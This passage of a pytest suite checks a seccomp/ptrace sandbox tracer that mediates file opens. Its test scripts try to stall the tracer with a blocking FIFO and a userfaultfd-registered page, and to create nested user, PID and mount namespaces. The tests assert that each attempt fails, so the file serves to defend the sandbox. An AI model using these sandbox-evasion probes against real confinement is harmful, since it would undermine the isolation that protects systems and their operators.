#: opens of /proc an honest program makes (os.listdir("/proc"), ps, psutil's process_iter)
_LISTS_PROCESSES = """\
print("pids", len([p for p in os.listdir("/proc") if p.isdigit()]) > 0)
attempt("proc-dir", "/proc/", os.O_RDONLY | os.O_DIRECTORY)
attempt("pid1-dir", "/proc/1", os.O_RDONLY | os.O_DIRECTORY)
attempt("pid1-stat", "/proc/1/stat")
attempt("pid1-cmdline", "/proc/1/cmdline")
"""


@pytest.mark.heavy
def test_listing_the_processes_is_no_finding(tmp_path: Path, seccomp: None) -> None:
    """Stopped (673490b): /proc itself is pinned like a file of no process."""
    proc, _ = _run(tmp_path, _OPENS + _LISTS_PROCESSES)
    assert _lines(proc).get("pids") == "True", proc.stdout + proc.stderr[-2000:]
    opens = _rows(tmp_path)
    assert not opens, opens


# ------------------------------------------------------------ (4) the tracer worn out

#: the tracer serves the whole box from one thread: an open that waits (a FIFO by name, let go
#: on) must not hold it, nor a path in memory whose fault a userfaultfd would serve (user mode
#: only here: the tracer's read of it fails, EFAULT, as the kernel's copy does)
_WEAR = """\
import ctypes, fcntl, mmap, os, struct, sys, threading, time
sys.stdout.reconfigure(line_buffering=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
os.mkfifo("p")
open("plain", "w").write("x")
blocked = threading.Thread(target=lambda: print("by-name", os.read(os.open("p", os.O_RDONLY), 9)))
blocked.start()
time.sleep(0.3)
n = os.open("p", os.O_RDONLY | os.O_NONBLOCK)
t = time.time()
for _ in range(50):
    os.close(os.open("/proc/self/fd/%d" % n, os.O_RDONLY | os.O_NONBLOCK))
    os.close(os.open("plain", os.O_RDONLY))
    os.close(os.open("/proc/self/status", os.O_RDONLY))
print("served-while-one-waits", time.time() - t < 10)
uffd = libc.syscall(323, 1 | os.O_CLOEXEC | os.O_NONBLOCK)  # UFFD_USER_MODE_ONLY
if uffd >= 0:
    fcntl.ioctl(uffd, 0xC018AA3F, bytearray(struct.pack("QQQ", 0xAA, 0, 0)))  # UFFDIO_API
    mm = mmap.mmap(-1, 4096)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(mm))
    mm.madvise(mmap.MADV_DONTNEED)
    reg = bytearray(struct.pack("QQQQ", addr, 4096, 1, 0))  # UFFDIO_REGISTER, MISSING
    fcntl.ioctl(uffd, 0xC020AA00, reg)
    t = time.time()
    fd = libc.open(ctypes.c_void_p(addr), 0)
    print("uffd-open", fd, ctypes.get_errno(), time.time() - t < 10)
w = os.open("p", os.O_WRONLY)
os.write(w, b"late")
blocked.join()
"""


@pytest.mark.heavy
def test_an_open_that_waits_does_not_hold_the_tracer(tmp_path: Path, seccomp: None) -> None:
    proc, _ = _run(tmp_path, _WEAR, timeout=120)
    lines = _lines(proc)
    assert lines.get("served-while-one-waits") == "True", proc.stdout + proc.stderr[-2000:]
    assert lines.get("by-name") == "b'late'", lines
    if "uffd-open" in lines:  # no userfaultfd here: nothing to show
        assert lines["uffd-open"] == "-1 14 True", lines  # EFAULT, at once


#: a nested user (and so PID) namespace, in which /proc/self would name a process of a PID
#: namespace the tracer's own_proc_dir never tried
_NESTED = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (("user", 0x10000000), ("pid", 0x20000000), ("mount", 0x00020000)):
    print("unshare-" + name, libc.unshare(flag) == 0)
"""


@pytest.mark.heavy
def test_no_nested_pid_namespace_can_be_made(tmp_path: Path, seccomp: None) -> None:
    """Stopped before it starts: the box allows no new user, PID or mount namespace, so no
    procfs of another PID namespace can be mounted under the caller's /proc paths."""
    proc, _ = _run(tmp_path, _NESTED)
    lines = _lines(proc)
    assert lines == {
        "unshare-user": "False",
        "unshare-pid": "False",
        "unshare-mount": "False",
    }, proc.stdout + proc.stderr[-2000:]


_CREAT_DIRECTORY = """\
attempt("existing", ".", os.O_RDONLY | os.O_DIRECTORY | os.O_CREAT, 0o755)
attempt("missing", "nd", os.O_RDONLY | os.O_DIRECTORY | os.O_CREAT, 0o755)
print("made", os.path.exists("nd"))
"""


@pytest.mark.heavy
def test_creat_with_directory_is_refused_as_the_kernel_refuses_it(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped (e3aa73c). Before: the tracer opened an existing folder for it, and for a missing
    name made a file and handed it over, where the kernel makes nothing (EINVAL since 6.4)."""
    kernel, _ = _run(tmp_path / "kernel", _OPENS + _CREAT_DIRECTORY, pin="off")
    want = _lines(kernel)
    if want.get("existing") != "ERR EINVAL":
        pytest.skip("this kernel takes O_CREAT|O_DIRECTORY (before Linux 6.4)")
    pinned, _ = _run(tmp_path / "pinned", _OPENS + _CREAT_DIRECTORY)
    assert _lines(pinned) == want, _differs(_lines(pinned), want)
